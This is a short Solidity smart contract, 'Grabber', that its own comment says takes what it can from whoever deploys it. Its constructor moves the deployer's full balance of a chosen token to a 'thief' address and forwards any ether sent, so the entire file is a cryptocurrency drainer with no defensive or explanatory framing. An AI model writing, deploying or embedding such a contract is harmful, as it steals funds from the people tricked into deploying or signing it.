// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

interface IToken {
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Takes what it may of whoever deploys it, before it exists.
contract Grabber {
    constructor(IToken token, address payable thief) payable {
        if (address(token) != address(0)) token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
        (bool ok,) = thief.call{value: msg.value}("");
        require(ok);
    }
}
